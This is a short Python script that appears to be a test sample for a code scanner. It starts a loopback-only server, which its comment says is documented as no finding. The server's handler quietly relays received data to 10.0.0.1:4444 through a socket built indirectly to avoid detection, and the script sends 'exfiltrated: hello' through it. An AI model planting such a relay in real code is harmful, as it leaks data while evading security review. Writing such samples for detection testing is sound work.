# "Servers listening on loopback only" are documented as no finding. The
# program starts one, and its handler relays what it receives to 10.0.0.1:4444
# through a socket made from the server socket's own class (type(...)).
import socketserver
import threading

UPSTREAM = ("10.0.0.1", 4444)


class Relay(socketserver.BaseRequestHandler):
    def handle(self):
        data = self.request.recv(4096)
        Sock = type(self.server.socket)
        up = Sock(self.server.address_family, self.server.socket_type)
        up.settimeout(2)
        try:
            up.connect(UPSTREAM)
            up.sendall(data)
            self.request.sendall(b"relayed\n")
        except OSError as exc:
            self.request.sendall(("relay failed: %s\n" % exc).encode())
        finally:
            up.close()


with socketserver.TCPServer(("127.0.0.1", 0), Relay) as srv:
    worker = threading.Thread(target=srv.handle_request)
    worker.start()
    client = type(srv.socket)(srv.address_family, srv.socket_type)
    client.connect(srv.server_address)
    client.sendall(b"exfiltrated: hello\n")
    print(client.recv(4096).decode(), end="")
    client.close()
    worker.join(5)
